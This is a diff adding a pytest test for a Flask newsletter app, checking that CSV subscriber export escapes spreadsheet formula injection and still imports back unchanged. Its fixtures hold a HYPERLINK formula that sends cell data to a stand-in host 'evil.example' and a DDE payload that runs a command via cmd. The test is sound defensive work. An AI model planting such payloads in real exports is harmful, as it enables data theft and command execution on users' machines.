@@ -2,6 +2,8 @@
 
 from __future__ import annotations
 
+import csv
+import io
 from typing import Any
 
 import pytest
@@ -233,3 +235,34 @@ def test_export_keeps_tags_and_status_and_imports_back_the_same(eager_app: Flask
         for s in map(_subscriber, ["ann@example.com", "bob@example.com", "cat@example.com"])
     }
     assert after == before
+
+
+def test_export_cells_cannot_run_as_formulas_and_still_import_back(eager_app: Flask) -> None:
+    trap = '=hyperlink("http://evil.example/?"&a1)@x.io'
+    db.session.add_all(
+        [
+            Subscriber(email=trap, status=SubscriberStatus.CONFIRMED, created_at=NOW,
+                       confirmed_at=NOW, source="site", consent="+cmd|' /C calc'!A0"),
+            Subscriber(email="ann@example.com", status=SubscriberStatus.CONFIRMED,
+                       created_at=NOW, confirmed_at=NOW, source="site", consent="@sum(1+1)"),
+            Subscriber(email="bob@example.com", status=SubscriberStatus.PENDING, created_at=NOW,
+                       source="site", consent="'quoted already"),
+            Subscriber(email="cat@example.com", status=SubscriberStatus.PENDING, created_at=NOW,
+                       source="site", consent="\tTabbed -2"),
+        ]
+    )  # fmt: skip
+    db.session.commit()
+    exported = "".join(roster.export_subscribers(db.session, actor=OPERATOR))
+    cells = [cell for row in csv.reader(io.StringIO(exported)) for cell in row]
+    assert not [cell for cell in cells if cell[:1] in ("=", "+", "-", "@", "\t", "\r")]
+    assert f"'{trap}" in cells
+    assert "'+cmd|' /C calc'!A0" in cells
+
+    before = {s.email: s.consent for s in db.session.scalars(select(Subscriber))}
+    db.session.execute(Subscriber.__table__.delete())
+    db.session.commit()
+    roster.import_subscribers(db.session, actor=OPERATOR, text=exported, now=NOW)
+    db.session.commit()
+    after = {s.email: s.consent for s in db.session.scalars(select(Subscriber))}
+    # Every value comes back as it was, but for the tab the import trims as it always did.
+    assert after == {**before, "cat@example.com": "Tabbed -2"}
